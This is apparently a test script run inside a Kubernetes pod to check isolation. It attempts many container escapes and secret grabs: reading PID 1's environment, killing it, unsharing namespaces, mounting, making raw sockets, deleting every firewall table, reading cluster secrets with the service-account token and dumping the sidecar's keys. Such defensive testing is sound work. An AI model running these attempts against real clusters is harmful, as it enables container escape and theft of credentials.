"""Run inside a pod by a test: try what a pod must not do, and tell as JSON what came of each.

`python - < hostile.py` with the settings as JSON in the variable ATTACK. An answer that begins with "no" means that the
attempt failed, and why; everything else is what the attacker got.
"""

import ctypes
import json
import os
import socket
import ssl
import stat
import struct
import threading
import urllib.error
import urllib.request
from pathlib import Path

SETTINGS = json.loads(os.environ.get("ATTACK", "{}"))
LIBC = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS, NEWNET, NEWPID = 0x1000_0000, 0x2_0000, 0x4000_0000, 0x2000_0000
ATTACKS = []


def attack(function):
    ATTACKS.append(function)
    return function


def call(name, *arguments):
    """A system call by its libc name; what it refused."""
    ctypes.set_errno(0)
    result = getattr(LIBC, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"{name} gave {result}"


def in_child(action):
    """Run in a process of its own, which may change its namespaces."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            said = str(action())
        except Exception as error:
            said = f"no: {error}"
        os.write(writing, said.encode()[:4000])
        os._exit(0)
    os.close(writing)
    os.waitpid(pid, 0)
    with os.fdopen(reading) as pipe:
        return pipe.read()


def got(path, *, size=200):
    with open(path, "rb") as file:
        return repr(file.read(size))


def reached(host, port, *, send=b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"):
    """What a server answers; it is ours when the secret is in it."""
    with socket.create_connection((host, port), timeout=3) as connection:
        connection.settimeout(3)
        connection.sendall(send)
        answer = b""
        while piece := connection.recv(4096):
            answer += piece
    if SETTINGS["secret"].encode() in answer:
        return "the secret of the host's loopback"
    return f"no: {answer[:60]!r}"


def over_tls(url, token=""):
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"} if token else {})
    try:
        with urllib.request.urlopen(request, timeout=3, context=ssl._create_unverified_context()) as answer:
            return answer.read(200).decode()
    except urllib.error.HTTPError as error:
        return f"no: {error.code} {json.loads(error.read())['message']}"


# ---- files


@attack
def paths_of_the_host():
    found = [path for path in SETTINGS["paths"] if os.path.lexists(path)]
    return found or "no: none is there"


@attack
def sockets_in_the_file_system():
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    found.append(path)
            except OSError:
                continue
    return found or "no: none"


@attack
def files_of_other_pods():
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr")]
        found += [os.path.join(folder, name) for name in (*files, *folders) if SETTINGS["canary"] in name]
    return found or "no: none"


@attack
def volumes_that_the_host_writes():
    """A link there would be followed by whoever brings the volume up to date: as the user, on the host."""
    written = []
    for folder in ("/own", "/var/run/secrets/kubernetes.io/serviceaccount"):
        try:
            os.symlink("/", f"{folder}/..data_hostile")
            written.append(folder)
        except OSError:
            continue
    return written or "no: read-only"


@attack
def private_keys():
    found = []
    for top in ("/run", "/var", "/etc", "/tmp", "/dev/shm", "/opt"):
        for folder, _, files in os.walk(top):
            for name in files:
                try:
                    if b"PRIVATE KEY" in Path(folder, name).read_bytes()[:4096]:
                        found.append(os.path.join(folder, name))
                except OSError:
                    continue
    return found or "no: none"


@attack
def devices():
    usual = {"null", "zero", "full", "random", "urandom", "tty", "pts", "ptmx", "shm", "fd", "stdin", "stdout"}
    return sorted(set(os.listdir("/dev")) - usual - {"stderr", "termination-log"}) or "no: the usual ones"


@attack
def kernel_files():
    opened = []
    for name in ("kcore", "keys", "sched_debug", "timer_list", "latency_stats", "sysrq-trigger"):
        try:
            if open(f"/proc/{name}", "rb").read(1):
                opened.append(name)
        except OSError:
            continue
    return opened or "no: all masked"


@attack
def kernel_settings():
    written = []
    for name in ("kernel/core_pattern", "net/ipv4/ip_forward", "kernel/hostname", "user/max_user_namespaces"):
        try:
            path = f"/proc/sys/{name}"
            value = Path(path).read_text()
            Path(path).write_text(value)
            written.append(name)
        except OSError:
            continue
    return written or "no: all read-only"


@attack
def cgroups_and_sysfs():
    writable = []
    for folder in ("/sys", "/sys/fs/cgroup", "/sys/kernel"):
        try:
            os.mkdir(f"{folder}/hostile")
            writable.append(folder)
        except OSError:
            continue
    return writable or "no: read-only"


# ---- processes


@attack
def foreign_processes():
    lines = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in os.listdir("/proc") if pid.isdigit()]
    strange = [line for line in lines if b"envoy" in line or b"canary" in line]
    return [line.decode() for line in strange] or f"no: {len(lines)} processes, all ours"


@attack
def environment_of_the_first_process():
    return got("/proc/1/environ")


@attack
def memory_of_the_first_process():
    return got("/proc/1/mem", size=1)


@attack
def files_of_the_first_process():
    return [os.readlink(f"/proc/1/fd/{fd}") for fd in os.listdir("/proc/1/fd")] or "no: none"


@attack
def root_of_the_first_process():
    return os.listdir("/proc/1/root")


@attack
def trace_the_first_process():
    return call("ptrace", 16, 1, 0, 0)


@attack
def end_the_first_process():
    os.kill(1, 9)
    os.kill(1, 0)
    return "no: it lives"


@attack
def processes_that_are_being_started():
    """Catch another program of this container in the moment before its exec: it is still the supervisor's copy."""
    caught = []
    ends = threading.Event()

    def hunt():
        seen = set()
        while not ends.is_set():
            for pid in os.listdir("/proc"):
                if not pid.isdigit() or pid in seen or int(pid) == os.getpid():
                    continue
                try:
                    environment = Path(f"/proc/{pid}/environ").read_bytes()
                    names = os.listdir(f"/proc/{pid}/fd")
                    links = [os.readlink(f"/proc/{pid}/fd/{name}") for name in names]
                except OSError:
                    continue
                seen.add(pid)
                if b"SEMAFOR_HOME" in environment or any(link.startswith(("mnt:", "pid:")) for link in links):
                    caught.append(links)

    hunter = threading.Thread(target=hunt)
    hunter.start()
    hunter.join(SETTINGS.get("hunt_s", 0))
    ends.set()
    hunter.join()
    return caught or "no: none caught"


# ---- privileges


@attack
def new_privileges():
    status = dict(line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    dangerous = {2: "DAC_READ_SEARCH", 12: "NET_ADMIN", 13: "NET_RAW", 16: "SYS_MODULE", 19: "SYS_PTRACE",
                 21: "SYS_ADMIN", 24: "SYS_RESOURCE", 27: "MKNOD", 39: "BPF"}  # fmt: skip
    bounding = int(status["CapBnd"], 16)
    held = [name for number, name in dangerous.items() if bounding >> number & 1]
    if status["NoNewPrivs"] != "1":
        held.append("new privileges")
    return held or "no: none"


@attack
def a_user_namespace_of_our_own():
    return in_child(lambda: call("unshare", NEWUSER | NEWNS))


@attack
def other_namespaces():
    return in_child(lambda: call("unshare", NEWNS | NEWNET))


@attack
def the_namespaces_of_the_first_process():
    return in_child(lambda: call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))


@attack
def mounts():
    return call("mount", b"none", b"/mnt", b"tmpfs", ctypes.c_ulong(0), None)


@attack
def what_lies_below_a_mask():
    return call("umount2", b"/proc/kcore", 2)


@attack
def device_nodes():
    return os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)) or "a disk"


@attack
def files_by_handle():
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=Q", 2)
    return call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)


@attack
def kernel_log():
    buffer = ctypes.create_string_buffer(100)
    return call("klogctl", 3, buffer, 100)


@attack
def keys_of_the_user():
    listed = ctypes.create_string_buffer(4096)
    found = LIBC.syscall(250, 11, -3, listed, 4096, 0)  # KEYCTL_READ of the session keyring
    if found < 0:
        return f"no: {os.strerror(ctypes.get_errno())}"
    return f"{found // 4} keys" if found else "no: an empty keyring"


# ---- the network


@attack
def marks():
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1337)
    return "packets that the sidecar never sees"


@attack
def raw_sockets():
    return str(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))


@attack
def packet_sockets():
    return str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))


@attack
def transparent_sockets():
    return socket.socket().setsockopt(0, 19, 1) or "transparent"


@attack
def anothers_address():
    made = socket.socket()
    made.setsockopt(0, 15, 1)  # IP_FREEBIND needs no privilege
    made.bind((SETTINGS["other"], 0))
    made.settimeout(3)
    made.connect((SETTINGS["other"], 8080))
    return "a connection from another pod's address"


@attack
def firewall():
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    # NFT_MSG_DELTABLE of everything, in a batch
    table = struct.pack("=IHHII", 20, (10 << 8) | 2, 1 | 4, 1, 0) + struct.pack(">BBH", 0, 0, 0)
    begin, end = (struct.pack("=IHHII", 20, kind, 1, 0, 0) + struct.pack(">BBH", 0, 0, 10) for kind in (16, 17))
    link.sendto(begin + table + end, (0, 0))
    link.settimeout(2)
    answer = link.recv(4096)
    (number,) = struct.unpack("=i", answer[16:20])
    return f"no: {os.strerror(-number)}" if number else "the rules are gone"


@attack
def the_api_without_a_token():
    return [over_tls(f"https://{host}/api/v1/secrets") for host in ("10.96.0.1", "10.244.0.1:6443")]


@attack
def secrets_of_the_cluster():
    token = Path("/var/run/secrets/kubernetes.io/serviceaccount/token").read_text()
    return over_tls("https://10.96.0.1/api/v1/secrets", token)


@attack
def the_hosts_loopback():
    port = SETTINGS["port"]
    tried = {}
    for host in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::ffff:127.0.0.1", "localhost", *SETTINGS["addresses"]):
        try:
            tried[host] = reached(host, port)
        except OSError as error:
            tried[host] = f"no: {error}"
    return [f"{host}: {said}" for host, said in tried.items() if not said.startswith("no")] or f"no: {tried}"


@attack
def the_hosts_loopback_through_a_proxy():
    port, target = SETTINGS["port"], f"127.0.0.1:{SETTINGS['port']}"
    asked = (
        f"GET / HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n",
        f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: x\r\nx-envoy-original-dst-host: {target}\r\nConnection: close\r\n\r\n",
        f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n",
        f"PROXY TCP4 10.244.0.9 127.0.0.1 1 {port}\r\nGET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    )
    doors = [("127.0.0.1", 15001), ("127.0.0.1", 15006), ("10.244.0.1", 15001), *[(host, 80) for host in
             (*SETTINGS["addresses"], "10.96.0.1", "1.2.3.4")]]  # fmt: skip
    found, said = [], set()
    for door in doors:
        for request in asked:
            try:
                answer = reached(*door, send=request.encode())
            except OSError as error:
                answer = f"no: {error}"
            said.add(answer)
            found += [f"{door}: {request.splitlines()[0]}"] if not answer.startswith("no") else []
    return found or f"no: {sorted(said)}"


@attack
def key_of_the_sidecar():
    try:
        with urllib.request.urlopen("http://127.0.0.1:15000/config_dump?include_eds", timeout=5) as answer:
            dump = answer.read().decode()
    except urllib.error.URLError as error:
        return f"no: {error}"
    found = [word for word in ("PRIVATE KEY", "Bearer ") if word in dump]
    return found or "no: the dump has none"


@attack
def shared_memory():
    return os.listdir("/dev/shm") or "no: empty"


def main():
    wanted = SETTINGS.get("only")
    said = {}
    for attempt in ATTACKS:
        if wanted and attempt.__name__ not in wanted:
            continue
        try:
            answer = attempt()
        except Exception as error:
            answer = f"no: {type(error).__name__}: {error}"
        said[attempt.__name__] = answer
    print(json.dumps(said))


main()
